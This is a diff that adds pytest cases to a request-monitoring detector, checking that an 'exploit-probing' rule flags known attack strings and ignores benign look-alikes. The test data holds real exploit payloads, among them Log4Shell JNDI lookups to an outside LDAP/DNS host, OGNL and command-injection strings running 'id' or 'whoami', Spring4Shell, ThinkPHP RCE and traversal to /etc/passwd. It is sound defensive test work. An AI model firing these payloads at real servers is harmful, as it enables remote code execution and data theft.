@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from typing import Any
+
 import pytest
 
 from shield import Policy, Request
@@ -106,6 +108,46 @@ def test_the_particular_detector_covers_the_general_one() -> None:
     found = feed(watching, [event(404, path=path) for path in names])
     assert [one.name for one in found] == ["sensitive-files"]
     assert watching.stats()["probing"]["covered"] == 1
+
+
+@pytest.mark.parametrize(
+    "facts",
+    [
+        {"path": "/?q=%24%7Bjndi:ldap://198.51.100.9/a%7D"},
+        {"user_agent": "${jndi:dns://198.51.100.9/a}"},
+        {"headers": {"referer": "${${lower:j}ndi:ldap://198.51.100.9/a}"}},
+        {"path": "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"},
+        {"path": "/?class.module.classLoader.URLs%5B0%5D=0"},
+        {"path": "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"},
+        {"path": "/public/plugins/graph/../../../etc/passwd"},
+        {"path": "/tmui/login.jsp/%2E%2E;/tmui/locallb/workspace/tmshCmd.jsp?command=whoami"},
+        {"path": "/login/index.php?login=$(echo${IFS}aWQ=)", "method": "POST"},
+        {"path": "/s/x/_/;/WEB-INF/web.xml"},
+    ],
+)
+def test_an_attack_by_its_text_whatever_the_answer(facts: dict[str, Any]) -> None:
+    found = feed(watch("exploit-probing"), [event(200, **facts)])
+    assert [one.name for one in found] == ["exploit-probing"]
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/search?q=price+$(10)",
+        "/docs/setup/first.action-items",
+        "/cart?total=$%7B5%7D",
+        "/?s=index/think/app",
+        "/web-inf",
+    ],
+)
+def test_what_only_looks_a_little_like_one_is_none(path: str) -> None:
+    assert feed(watch("exploit-probing"), [event(200, path=path), event(404, path=path)]) == []
+
+
+def test_a_hole_that_is_not_there_and_one_that_its_owner_uses() -> None:
+    path = "/api/v2/cmdb/system/admin/root"
+    assert feed(watch("exploit-probing"), [event(200, method="PUT", path=path)]) == []
+    assert len(feed(watch("exploit-probing"), [event(404, method="PUT", path=path)])) == 1
 
 
 # ---- those that compare a key with its own past ----------------------------------------------------------------
